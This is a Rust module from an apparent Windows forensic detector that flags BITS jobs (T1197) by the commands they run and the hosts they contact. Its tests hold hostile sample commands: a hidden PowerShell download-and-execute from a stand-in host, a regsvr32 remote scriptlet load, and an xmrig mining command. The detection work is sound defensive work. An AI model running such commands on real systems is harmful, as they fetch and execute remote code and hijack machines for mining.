//! Jobs of BITS: what Windows fetches or sends for somebody, and the command that it runs behind that, also after a restart.
//!
//! Updates, browsers and office programs have jobs without a command. So a job is told for what its command does, as that of any other place
//! that starts code, and for the hosts that it talks to.

use crate::assessment::{Action, Confidence, Finding, Kind, Severity};
use crate::events::known_source;
use crate::files::Files;
use crate::launch::Launch;
use crate::messages as m;
use crate::settings::subject;
use crate::subject::{finding, finding_id, places};
use evidence::{Evidence, Setting};
use intel::{IndicatorKind as Known, Intel, Observation};
use std::collections::BTreeMap;

/// The kind of setting.
const KIND: &str = "bits-job";
/// BITS Jobs.
const ATTACK: &str = "T1197";

/// Looks at every job of the evidence. One that several sources show is one finding.
pub(crate) fn detect(evidence: &Evidence, intel: &Intel) -> Vec<Finding> {
    let files = Files::of(evidence);
    let mut seen: BTreeMap<String, (Finding, Vec<usize>)> = BTreeMap::new();
    for (record, job) in evidence.settings().filter(|(_, setting)| setting.kind == KIND) {
        let Some(found) = judge(job, &files, intel) else { continue };
        seen.entry(found.id.clone()).or_insert_with(|| (found, Vec::new())).1.push(record);
    }
    let findings = seen.into_values().map(|(finding, records)| {
        let evidence = places(evidence, records);
        Finding { evidence, ..finding }
    });
    findings.collect()
}

fn judge(job: &Setting, files: &Files, intel: &Intel) -> Option<Finding> {
    let mut found = command(job, files, intel);
    for url in lines(job, "remote") {
        let Some((reason, family)) = known_source(url, intel) else { continue };
        let finding = found.get_or_insert_with(|| source(job));
        finding.family = finding.family.take().or(family);
        if !finding.reasons.contains(&reason) {
            finding.reasons.push(reason);
        }
    }
    let mut finding = found?;
    finding.attack.push(ATTACK.to_owned());
    finding.attack.sort();
    finding.attack.dedup();
    finding.reasons.push(m::REASON_BITS_LOOK.plain());
    Some(finding)
}

/// What the command does that runs behind the job.
fn command(job: &Setting, files: &Files, intel: &Intel) -> Option<Finding> {
    if job.value.is_empty() {
        return None;
    }
    let local = lines(job, "local").map(|path| Observation::new(Known::FilePath, path));
    let remote = lines(job, "remote").map(|url| Observation::new(Known::Url, url));
    let mut launch = Launch {
        kind: Kind::Setting,
        place: m::PLACE_BITS,
        name: &job.name,
        identity: identity(job),
        commands: vec![("Value", job.value.clone())],
        image: None,
        signer: None,
        loose: None,
        observations: local.chain(remote).collect(),
        hides: Vec::new(),
        supports: Vec::new(),
        altered: None,
        subject: subject(job),
    };
    // What the job brings is what its command starts.
    launch.know(files);
    launch.judge(intel)
}

/// A job that is told for the host that it talks to.
fn source(job: &Setting) -> Finding {
    let title = m::TITLE_AUTOSTART.with([m::PLACE_BITS.plain().into(), job.name.as_str().into()]);
    let mut finding = finding(Kind::Setting, &job.name, title);
    (finding.severity, finding.confidence) = (Severity::Medium, Confidence::Likely);
    finding.action = Action::Review;
    let remote = job.details.get("remote").map(String::as_str).unwrap_or_default();
    finding.id = finding_id(Kind::Setting, &[&identity(job)], &remote.to_lowercase());
    finding.subject = subject(job);
    finding
}

fn identity(job: &Setting) -> String {
    format!("{KIND}\\{}", job.name)
}

fn lines<'j>(job: &'j Setting, name: &str) -> impl Iterator<Item = &'j str> {
    job.details.get(name).map(String::as_str).unwrap_or_default().lines()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_support::records_of;
    use evidence::{FileFact, RecordData};

    fn job(command: &str, remote: &str, local: &str) -> RecordData {
        let details = [("id", "{1}"), ("remote", remote), ("local", local)];
        let details = details.map(|(name, value)| (name.to_owned(), value.to_owned()));
        RecordData::Setting(Setting {
            kind: KIND.into(),
            name: "Fonts".into(),
            value: command.into(),
            details: BTreeMap::from(details),
        })
    }

    fn found(records: impl IntoIterator<Item = RecordData>) -> Vec<Finding> {
        detect(&records_of(records), Intel::builtin())
    }

    fn judged(command: &str, remote: &str) -> Option<(Severity, Action)> {
        found([job(command, remote, r"C:\Users\a\x.tmp")]).first().map(|found| (found.severity, found.action))
    }

    #[test]
    fn jobs_of_updates_and_browsers_are_silent() {
        for remote in [
            "http://au.download.windowsupdate.com/d/x.cab",
            "https://edgedl.me.gvt1.com/edgedl/release2/x.crx3\nhttps://dl.google.com/y",
            "http://officecdn.microsoft.com/pr/x/office/data/v32.cab",
            "",
        ] {
            assert_eq!(judged("", remote), None, "{remote}");
        }
        // What a program of one's own does behind its own job is no sign.
        assert_eq!(
            judged(r#""C:\Program Files\Vendor\updater.exe" /done"#, "https://vendor.example/x"),
            None
        );
    }

    #[test]
    fn a_command_is_judged_as_that_of_any_other_place() {
        let hidden = "powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example/x.ps1')\"";
        let one = found([job(hidden, "http://a.example/f", "")]).remove(0);
        assert!(one.severity <= Severity::High && one.action == Action::Review, "{one:#?}");
        assert!(one.attack.contains(&ATTACK.to_owned()), "{one:#?}");
        assert_eq!((one.subject["Kind"].as_str(), one.subject["Value"].as_str()), (Some(KIND), Some(hidden)));
        assert_eq!(
            judged("regsvr32.exe /s /u /i:http://a.example/x.sct scrobj.dll", "").map(|(_, a)| a),
            Some(Action::Remove)
        );
        let miner = "C:\\x\\xmrig.exe -o stratum+tcp://pool.minexmr.com:4444 -u 4".to_owned()
            + &"8".repeat(94)
            + " --donate-level 1";
        assert!(judged(&miner, "").is_some());
    }

    #[test]
    fn what_it_brings_counts_where_a_command_starts_it() {
        let file = || {
            RecordData::File(FileFact {
                path: r"C:\Users\Public\a.exe".into(),
                exists: true,
                signer: Some("(Not signed)".into()),
                ..FileFact::default()
            })
        };
        let start =
            found([job(r"C:\Users\Public\a.exe", "http://a.example/f", r"C:\Users\Public\a.exe"), file()]);
        assert_eq!(start.iter().map(|found| found.severity).collect::<Vec<_>>(), [Severity::Low]);
        assert_eq!(found([job("", "http://a.example/f", r"C:\Users\Public\a.exe"), file()]), []);
    }

    #[test]
    fn hosts_that_only_miners_talk_to_are_told() {
        let expected = Some((Severity::Medium, Action::Review));
        assert_eq!(judged("", "http://au.download.windowsupdate.com/a\nhttp://t.zer9g.com/a.exe"), expected);
        let both = found([job("", "http://t.zer9g.com/a.exe", ""), job("", "http://t.zer9g.com/a.exe", "")]);
        assert_eq!(both.iter().map(|found| found.evidence.len()).collect::<Vec<_>>(), [2]);
    }
}
